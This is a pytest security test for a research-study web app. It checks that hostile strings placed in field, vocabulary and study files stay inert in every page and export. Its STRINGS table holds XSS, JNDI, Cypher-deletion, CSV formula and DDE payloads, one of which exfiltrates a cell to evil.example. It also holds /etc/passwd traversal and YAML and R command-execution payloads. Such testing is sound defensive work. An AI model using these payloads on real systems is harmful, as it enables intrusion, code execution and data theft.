"""Strings that mean something to what shows or stores them, in every text of a field, its terms, its sheets and its review: on no surface
do they do anything. And bombs, which are refused before they unfold.
"""

from __future__ import annotations

import csv
import io
import json
import re
import resource
import subprocess
import sys
import time
import zipfile
import zlib
from collections import Counter
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import quote
from xml.etree import ElementTree as Xml

import bibtexparser
import pytest
import yaml
from starlette.testclient import TestClient

from api.app import create_app
from graph.opening import check, field_of, load, open_store
from graph.settings import Settings
from graph.stores.port import Store
from tests.conftest import BCG, MEMORY, ON_LTS
from tests.test_deployments import addresses
from tests.test_pages import HTML
from tests.test_serve import PROGRAM, environment

STRINGS = {
    "html": "\"'><img src=x onerror=alert(1)><script>alert(2)</script><svg/onload=alert(3)>",
    "template": "{{7*7}}{% for x in y %}${jndi:ldap://x}<%= 7 %>",
    "link": "javascript:alert(1)//",
    "cypher": "x'}) DETACH DELETE n WITH 1 AS n MATCH (n) DETACH DELETE n //`",
    "formula": '=HYPERLINK("http://evil.example/"&A1,"open")',
    "plus": "+1+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "tab": 'x\t=1+1\t"',
    "ris": "x\nER  - \nTY  - JOUR\nTI  - evil\nER  - \n",
    "bibtex": "x}, url={http://evil.example}}\n@article{evil, title={x}}\n\\input{/etc/passwd}",
    "xml": "]]><x xmlns='evil'/>&lt;&#0;<!--",
    "path": "../../../../etc/passwd\\..\\x",
    "yaml": "!!python/object/apply:os.system ['true'] &a *a",
    "r": "x\"); system('true') #\nsystem('true')",
    "direction": "\u202e\u2066evil\u200b\u2028x",
    "format": "%s%n{0.__class__}",
}


class Elements(HTMLParser):
    """The elements and attributes of a page that could do something."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[Any] = []
        self.titles = Counter[str]()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.titles[tag] += 1
        given = dict(attrs)
        for name, value in attrs:
            leads = name in {"href", "src", "action", "xlink:href", "formaction"}
            if name.startswith("on") or name == "style" or (leads and re.match(r"(?i)\s*(javascript|data|vbscript):", value or "")):
                self.wrong.append((tag, name, value))
        if (tag == "script" and not (given.get("src") or "").startswith("/static/")) or tag in {"img", "iframe", "object", "embed"}:
            self.wrong.append((tag, attrs))


def spoilt(given: Any, bad: str, keys: frozenset[str]) -> Any:
    """A document with that string in the place of every text behind these keys."""
    if isinstance(given, dict):
        found = {}
        for key, value in given.items():
            if key in keys:
                found[key] = bad if isinstance(value, str) else [bad] if isinstance(value, list) else value
            else:
                found[key] = spoilt(value, bad, keys)
        return found
    return [spoilt(one, bad, keys) for one in given] if isinstance(given, list) else given


# what is a name of nothing else
SHEET = frozenset({"title", "authors", "first_author", "journal", "label", "criteria", "notes", "contrast", "source", "cutoff", "quote"})
FIELD = frozenset({"title", "lead"})


def field_with(bad: str, folder: Path) -> Path:
    folder.mkdir()
    (folder / "studies").mkdir()
    field = yaml.safe_load((BCG / "field.yaml").read_text(encoding="utf-8"))
    field = {**field, "title": bad, "lead": bad, "abbreviations": {**field["abbreviations"], "ZZZ": bad}}
    for one in field["populations"]:
        one["name"] = f"{one['id']} {bad}"
    (folder / "field.yaml").write_text(yaml.safe_dump(field, allow_unicode=True), encoding="utf-8")
    terms = yaml.safe_load((BCG / "vocabulary.yaml").read_text(encoding="utf-8"))
    for one in terms["terms"]:
        one |= {"name": f"{bad} {one['id']}", "definition": bad, "category": one["category"], "synonyms": [f"{one['id']} {bad}"]}
    (folder / "vocabulary.yaml").write_text(yaml.safe_dump(terms, allow_unicode=True), encoding="utf-8")
    for place in sorted((BCG / "studies").glob("*.yaml")):
        sheet = spoilt(yaml.safe_load(place.read_text(encoding="utf-8")), bad, SHEET)
        sheet |= {"title": bad, "first_author": bad, "authors": [bad], "journal": bad, "cohorts": [bad], "notes": bad}
        sheet |= {"countries": [bad]}
        for row in sheet["findings"]:
            row |= {"contrast": bad, "source": bad, "notes": bad}
        (folder / "studies" / place.name).write_text(yaml.safe_dump(sheet, allow_unicode=True), encoding="utf-8")
    (folder / "review.yaml").write_text(yaml.safe_dump({"question": bad, "found": bad, "read_twice": bad}), encoding="utf-8")
    return folder


@pytest.fixture(params=STRINGS)
def bad(request: pytest.FixtureRequest) -> str:
    return STRINGS[request.param]


@pytest.fixture(params=[MEMORY, ON_LTS])
def store(bad: str, request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Store]:
    field = field_with(bad, tmp_path / "field")
    if request.param == MEMORY:
        settings = Settings(field=field, snapshot=tmp_path / "data", store="memory:")
    else:
        empty = request.getfixturevalue("empty")
        settings = Settings(field=field, store=empty.uri, neo4j_user=empty.user, neo4j_password=empty.password)
    loaded = check(settings, [field / "studies"], fresh=True)
    assert [str(one) for one in loaded.errors] == []
    load(settings, [field / "studies"], fresh=True)
    opened = open_store(settings)
    yield opened
    opened.close()


def cells(text: str, delimiter: str) -> Iterator[str]:
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, strict=True):
        yield from row


def judge(address: str, media: str, body: bytes, studies: int) -> None:
    """That nothing of what was put in does anything in a body of that type."""
    text = "" if media in {"application/zip", "image/png"} else body.decode()
    match media:
        case "text/html":
            page = Elements()
            page.feed(text)
            assert page.wrong == [], address
            assert page.titles["html"] == page.titles["main"] == 1, address
            assert "49" not in re.findall(r"<h1[^>]*>(\d+)", text)
        case "image/svg+xml" | "application/graphml+xml" | "application/atom+xml":
            for one in Xml.fromstring(text).iter():
                assert not one.tag.rpartition("}")[2] in {"script", "foreignObject", "img", "x"}, address
                assert [name for name in one.attrib if name.lower().startswith("on")] == [], address
                assert not any(value.lower().startswith("javascript:") for name, value in one.attrib.items() if name.endswith("href"))
        case "text/csv" | "text/tab-separated-values":
            for cell in cells(text, "," if media == "text/csv" else "\t"):
                assert cell[:1] not in set("=+-@\t\r\n") or re.fullmatch(r"[+-]?[\d.]+(e-?\d+)?", cell), (address, cell)
        case "application/x-research-info-systems":
            assert all(re.match(r"[A-Z][A-Z0-9]  - |$", line) for line in text.splitlines()), address
            assert text.count("\nER  -") + text.startswith("ER  -") == text.count("TY  - ") <= studies, address
        case "application/x-bibtex":
            read = bibtexparser.parse_string(text)
            assert (read.failed_blocks, read.strings, read.comments) == ([], [], []), address
            assert len(read.entries) == text.count("\n@") + text.startswith("@") <= studies
            assert not any("input" in f.value and "\\input" in f.value for one in read.entries for f in one.fields), address
        case "application/json" | "application/vnd.citationstyles.csl+json" | "application/openapi+json":
            json.loads(text)
        case "application/zip":
            with zipfile.ZipFile(io.BytesIO(body)) as parts:
                for name in parts.namelist():
                    assert re.fullmatch(r"[A-Za-z0-9_/.-]+", name), name
                    assert not name.startswith("/")
                    assert ".." not in name
                    if name.endswith(".csv"):
                        judge(f"{address} {name}", "text/csv", parts.read(name), studies)
                    elif name.endswith(".R"):
                        script(parts.read(name).decode())
                    elif name.endswith(".tsv"):
                        widths = {line.count("\t") for line in parts.read(name).decode().split("\n")[:-1]}
                        assert len(widths) == 1, name
        case _:
            assert media in {"text/css", "text/javascript", "application/javascript", "image/png", "text/plain"}, (address, media)


def script(text: str) -> None:
    """No line of R that is no comment calls what we don't, outside texts."""
    code = "\n".join(re.sub(r'"(?:\\.|[^"\\])*"', '""', line) for line in text.splitlines() if not line.startswith("#"))
    assert "system" not in code


def test_no_string_does_anything_on_any_surface(store: Store, bad: str) -> None:
    studies = len(store.reader().studies())
    with TestClient(create_app(store), raise_server_exceptions=False) as client:
        document = client.get("/openapi.json").json()
        asked = [one for one in addresses(client) if "exposure=" not in one or "bcg" in one]
        forms = []
        for path, operations in document["paths"].items():
            for one in operations.get("get", {}).get("parameters", ()):
                if one["name"] == "format":
                    allowed = one["schema"].get("enum", ())
                    forms += [
                        f"{place}{'&' if '?' in place else '?'}format={form}"
                        for place in asked
                        if place.partition("?")[0] == path
                        for form in allowed
                        if form != "png"
                    ]
        for address in (*asked, *forms, f"/search?q={quote(bad)}", f"/cohorts/{quote(bad, safe='')}", f"/v1/cohorts/{quote(bad, safe='')}"):
            answer = client.get(address, headers=HTML)
            if answer.status_code == 404 and ("cohorts/" in address or "age" in address or "menon" in address or "microbleed" in address):
                continue
            assert answer.status_code < 500, (address, answer.text[:300])
            media = answer.headers["content-type"].partition(";")[0]
            if address in {"/docs"}:
                assert f"<h1>{bad}" not in answer.text
                continue
            if media == "application/problem+json":
                media = "application/json"
            judge(address, media, answer.content, studies)
            named = answer.headers.get("content-disposition", 'inline; filename="x"')
            assert re.fullmatch(r'(inline|attachment); filename="[a-z0-9.-]+"', named), named
    release = store.reader().release()
    assert len(store.reader().studies()) == studies
    assert store.reader().release() == release
